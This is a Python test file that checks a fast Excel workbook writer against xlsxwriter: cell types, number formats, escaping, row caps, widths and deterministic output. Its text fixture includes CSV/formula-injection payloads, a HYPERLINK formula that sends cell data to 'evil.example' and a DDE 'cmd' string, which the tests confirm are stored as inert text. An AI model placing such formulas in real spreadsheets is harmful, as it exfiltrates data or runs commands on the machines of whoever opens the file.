"""helpers.workbook's fast writer against xlsxwriter's own, cell by cell (the kit's writer
before: :func:`write_cell_by_cell`): every kind of cell read back with openpyxl (value,
number format, quote prefix) and as XML; the rows' numbering, dimension and filter across
batches and under the row cap; the same bytes twice."""

from __future__ import annotations

import math
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Sequence
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
import xlsxwriter

from helpers import workbook
from helpers.workbook import (
    MAX_TEXT_UNITS,
    MAX_WIDTH,
    NUMBER_FORMATS,
    READ_ME,
    Sheet,
    number_kind,
    write_workbook,
)

AS_OF = date(2025, 12, 31)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SPACE = "{http://www.w3.org/XML/1998/namespace}space"


def write_cell_by_cell(path: str | Path, sheets: Sequence[Sheet], currency: str) -> None:
    """The reference: the same sheets written one xlsxwriter call per cell, as the kit wrote
    them before (no row cap, no 'Read me'), with xlsxwriter's own handling of NaN and
    infinities, time zones, text longer than a cell, controls and escaping."""
    book = xlsxwriter.Workbook(str(path), {"constant_memory": True, "nan_inf_to_errors": True,
                                           "remove_timezone": True})
    header, text = book.add_format({"bold": True}), book.add_format({"quote_prefix": True})
    numbers = {kind: book.add_format({"num_format": number_format.format(currency=currency)})
               for kind, number_format in NUMBER_FORMATS.items()}
    for spec in sheets:
        rows = workbook._relation(spec.rows)
        sheet = book.add_worksheet(spec.name)
        types = [str(duckdb_type) for duckdb_type in rows.types]
        kinds = [spec.kinds.get(name) or number_kind(name, duckdb_type)
                 for name, duckdb_type in zip(rows.columns, types, strict=True)]
        widths = [len(name) + 3 for name in rows.columns]
        for col, name in enumerate(rows.columns):
            sheet.write_string(0, col, name, header)
        row = 0
        for row, values in enumerate(rows.iter_rows(10_000), start=1):
            for col, value in enumerate(values):
                kind = kinds[col]
                if value is None:
                    continue
                if types[col] == "BOOLEAN":
                    sheet.write_boolean(row, col, value)
                    shown = 5
                elif kind in ("date", "timestamp"):
                    sheet.write_datetime(row, col, value, numbers[kind])
                    shown = 19 if isinstance(value, datetime) else 10
                elif kind is not None:
                    number = float(value) if isinstance(value, Decimal) else value
                    sheet.write_number(row, col, number, numbers[
                        spec.row_kinds[row - 1] if spec.row_kinds else kind])
                    shown = len(f"{number:,.2f}") + 4 if math.isfinite(number) else 6
                else:
                    sheet.write_string(row, col, str(value), text)
                    shown = len(str(value))
                widths[col] = max(widths[col], shown)
        for col, width in enumerate(widths):
            sheet.set_column(col, col, min(width + 1, MAX_WIDTH))
        sheet.freeze_panes(1, 0)
        sheet.autofilter(0, 0, row, len(widths) - 1)
    book.close()


#: Text of every kind: formulas to neutralise, XML's special characters, unicode, controls,
#: spaces at an end, an Excel escape lookalike, line breaks, and two texts longer than a
#: cell holds, one cut right before a character that takes two UTF-16 units.
TEXTS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    '<b>Fish & "chips"</b> >', "Crème brûlée, 日本, 😀", "ctrl\x01\x08\x1fend", "tab\tinside",
    " leading", "trailing ", "\xa0no-break", "two\nlines\r\nthree", "_x0041_ and _X00ff_",
    "\x0bvertical", "non\ufffecharacter", "\r=1+1", "x" * (MAX_TEXT_UNITS - 1) + "😀" + "y" * 500,
    "😀" * 7 + "z" * 40_000, "", None,
]


@pytest.fixture
def cells():
    """One row per text of :data:`TEXTS`, with numbers (NaN, infinities, -0, 1e20, 0.1 + 0.2
    …), DECIMAL money, dates and timestamps around Excel's 1900 leap day, booleans and
    NULLs."""
    con = duckdb.connect()
    con.execute("CREATE TABLE cells (id INTEGER, name VARCHAR, net_revenue DOUBLE, "
                "share_active DOUBLE, orders BIGINT, amount DECIMAL(18, 2), "
                "first_purchase DATE, exported_at TIMESTAMP, active BOOLEAN, score REAL, "
                "severity DOUBLE)")
    numbers = [-1234.5, float("nan"), float("inf"), float("-inf"), -0.0, 1e20, 1e-7,
               0.1 + 0.2, 2 / 3, None]
    days = [date(2025, 12, 31), date(1900, 1, 1), date(1900, 2, 28), date(1900, 3, 1), None]
    times = [datetime(2025, 1, 2, 3, 4, 5, 500_000), datetime(1900, 1, 1, 12),
             datetime(1900, 3, 1, 0, 0, 0, 1), datetime(1899, 12, 30, 6), None]
    con.executemany("INSERT INTO cells VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", [
        (i, text, numbers[i % len(numbers)], numbers[(i + 3) % len(numbers)],
         [3, -40_000, 1_234_567_890_123, None][i % 4],
         [Decimal("12.50"), Decimal("-0.10"), None][i % 3], days[i % len(days)],
         times[i % len(times)], [True, False, None][i % 3], [0.1, 2.5, None][i % 3],
         7.25 if i % 2 else None)
        for i, text in enumerate(TEXTS)])
    yield con.sql("SELECT * FROM cells ORDER BY id DESC")
    con.close()


def read_back(path: Path, name: str) -> dict[str, tuple]:
    """Each cell of sheet ``name`` as openpyxl reads it: type, value, format, quote prefix."""
    sheet = openpyxl.load_workbook(path)[name]
    return {cell.coordinate: (cell.data_type, cell.value, cell.number_format,
                              cell.quotePrefix)
            for row in sheet.iter_rows() for cell in row if cell.value is not None}


def sheet_xml(path: Path, number: int = 1) -> ET.Element:
    with zipfile.ZipFile(path) as book:
        return ET.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))


def xml_cells(path: Path, number: int = 1) -> dict[str, tuple]:
    """Each data cell's XML, its style number left out (the writers number styles in their
    own order): type, text and xml:space, formula, value (a number as a double)."""
    found = {}
    for cell in sheet_xml(path, number).iter(f"{MAIN}c"):
        text = cell.find(f"{MAIN}is/{MAIN}t")
        formula, value = cell.find(f"{MAIN}f"), cell.find(f"{MAIN}v")
        value = None if value is None else value.text
        if cell.get("t") is None:  # a number: xlsxwriter writes 16 digits, the fast one 17
            value = float(f"{float(value):.16G}")
        found[cell.get("r")] = (cell.get("t"), None if text is None else text.text,
                                None if text is None else text.get(SPACE),
                                None if formula is None else formula.text, value)
    return found


def rounded(cells: dict[str, tuple]) -> dict[str, tuple]:
    """Numbers to xlsxwriter's 16 significant digits, dates to the millisecond."""
    def value(cell):
        if isinstance(cell, float):
            return float(f"{cell:.16G}")
        if isinstance(cell, datetime):
            return cell.replace(microsecond=0) + timedelta(milliseconds=round(
                cell.microsecond / 1000))
        return cell
    return {ref: (kind, value(cell), *rest) for ref, (kind, cell, *rest) in cells.items()}


def test_every_kind_of_cell_is_what_xlsxwriter_writes_cell_by_cell(cells, tmp_path):
    fast, reference = tmp_path / "fast.xlsx", tmp_path / "reference.xlsx"
    sheets = [Sheet("Cells", cells, kinds={"severity": "money"})]
    write_workbook(fast, sheets, AS_OF, "EUR")
    write_cell_by_cell(reference, sheets, "EUR")
    got, want = read_back(fast, "Cells"), read_back(reference, "Cells")
    assert rounded(got) == rounded(want)
    assert xml_cells(fast) == xml_cells(reference)
    # what the comparison covers, spot-checked
    letter = {value: ref[0] for ref, (_, value, *_) in got.items() if ref[1:] == "1"}
    column = {name: {value: rest for ref, (_, value, *rest) in got.items()
                     if ref[0] == letter[name] and ref[1:] != "1"} for name in letter}
    assert column["name"][TEXTS[0]] == ["General", True]  # text, never a formula
    assert {len(text.encode("utf-16-le")) // 2 for text in column["name"]} >= {
        MAX_TEXT_UNITS - 1, MAX_TEXT_UNITS}  # cut, never inside 😀
    money = column["net_revenue"]
    assert money[0.30000000000000004] == ['#,##0.00 "EUR"', False]  # to the last digit
    assert {"=#NUM!", "=1/0", "=-1/0"} <= set(money)  # NaN and infinities: errors
    assert column["share_active"][2 / 3][0] == "0.0%"
    assert column["severity"][7.25][0] == '#,##0.00 "EUR"'  # kinds override the name
    assert column["first_purchase"][datetime(1900, 3, 1)][0] == "yyyy-mm-dd"
    assert widths(fast, "Cells") == widths(reference, "Cells")


def widths(path: Path, name: str) -> dict[str, float]:
    return {letter: dimension.width for letter, dimension in
            openpyxl.load_workbook(path)[name].column_dimensions.items()}


def test_text_that_looks_like_xml_is_text(tmp_path):
    """xlsxwriter writing a row at a time writes a text that starts with <r> and ends with
    </r> as XML (a rich string), unescaped; the fast writer writes it as text."""
    path = tmp_path / "book.xlsx"
    rich = "<r><t>Click</t></r>"
    write_workbook(path, [Sheet("Data", pd.DataFrame({"name": [rich]}))], AS_OF, "EUR")
    assert read_back(path, "Data")["A2"][1] == rich


def test_a_timestamp_with_time_zone_shows_its_local_time(tmp_path):
    """As xlsxwriter's remove_timezone shows it (which DuckDB can hand to Python only with
    pytz, which the kit does not install)."""
    con = duckdb.connect()
    con.execute("SET TimeZone = 'Europe/Rome'")
    path = tmp_path / "book.xlsx"
    write_workbook(path, [Sheet("Data", con.sql(
        "SELECT TIMESTAMPTZ '2025-06-01 10:30:00+00' AS seen_at"))], AS_OF, "EUR")
    assert read_back(path, "Data")["A2"][1:3] == (datetime(2025, 6, 1, 12, 30),
                                                  "yyyy-mm-dd hh:mm:ss")


def test_a_summary_formats_each_row_by_its_kind(tmp_path):
    figures = pd.DataFrame({"figure": ["revenue", "active share", "customers", "as of"],
                            "value": [1234.5, 0.25, 3000.0, 2.5]})
    sheets = [Sheet("Summary", figures, row_kinds=["money", "percent", "count", "decimal"])]
    fast, reference = tmp_path / "fast.xlsx", tmp_path / "reference.xlsx"
    write_workbook(fast, sheets, AS_OF, "EUR")
    write_cell_by_cell(reference, sheets, "EUR")
    got = read_back(fast, "Summary")
    assert got == read_back(reference, "Summary")
    assert [got[f"B{row}"][2] for row in range(2, 6)] == [
        '#,##0.00 "EUR"', "0.0%", "#,##0", "#,##0.00"]


def test_rows_across_batches_and_the_row_cap_keep_their_order_and_references(
        tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_DATA_ROWS", 5)
    monkeypatch.setattr(workbook, "_BATCH_ROWS", 2)
    rows = duckdb.sql("SELECT 'C' || i AS customer_id, 10.0 - i AS value_at_stake "
                      "FROM range(7) AS t(i) ORDER BY value_at_stake DESC")
    path = tmp_path / "book.xlsx"
    write_workbook(path, [Sheet("Actions", rows, full_list="actions.csv"),
                          Sheet("Empty", rows.limit(0))], AS_OF, "EUR")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [READ_ME, "Actions", "Empty"]
    assert [row[0] for row in book["Actions"].values] == ["customer_id", "C0", "C1", "C2",
                                                          "C3", "C4"]
    actions = sheet_xml(path, 2)
    assert [row.get("r") for row in actions.iter(f"{MAIN}row")] == ["1", "2", "3", "4", "5",
                                                                    "6"]
    assert [cell.get("r") for cell in actions.iter(f"{MAIN}c")][-2:] == ["A6", "B6"]
    assert actions.find(f"{MAIN}dimension").get("ref") == "A1:B6"
    assert actions.find(f"{MAIN}autoFilter").get("ref") == "A1:B6"
    empty = sheet_xml(path, 3)
    assert empty.find(f"{MAIN}dimension").get("ref") == "A1:B1"
    assert empty.find(f"{MAIN}autoFilter").get("ref") == "A1:B1"
    with zipfile.ZipFile(path) as parts:
        assert "Actions!$A$1:$B$6" in parts.read("xl/workbook.xml").decode()


def test_the_same_sheets_write_the_same_bytes(cells, tmp_path):
    sheets = [Sheet("Cells", cells), Sheet("Rules", pd.DataFrame({"rule": ["a & b"]}))]
    write_workbook(tmp_path / "first.xlsx", sheets, AS_OF, "EUR")
    write_workbook(tmp_path / "second.xlsx", sheets, AS_OF, "EUR")
    assert (tmp_path / "first.xlsx").read_bytes() == (tmp_path / "second.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "first.xlsx") as book:
        assert {entry.date_time for entry in book.infolist()} == {(1980, 1, 31, 0, 0, 0)}
        assert book.testzip() is None


def test_widths_come_from_the_longest_text_or_number_shown(tmp_path):
    """A text with line breaks shows on one line (its cell does not wrap): its width is its
    length; NaN alone is 6 characters; a column of NULLs is as wide as its header."""
    path = tmp_path / "book.xlsx"
    rows = duckdb.sql("SELECT * FROM (VALUES ('ab' || chr(10) || 'cdefghijklmnop', 'nan'::DOUBLE,"
                      " NULL::DATE)) AS t(note, net_revenue, first_purchase)")
    write_workbook(path, [Sheet("Data", rows)], AS_OF, "EUR")
    assert {letter: int(width) for letter, width in widths(path, "Data").items()} == {
        "A": 18, "B": len("net_revenue") + 4, "C": len("first_purchase") + 4}
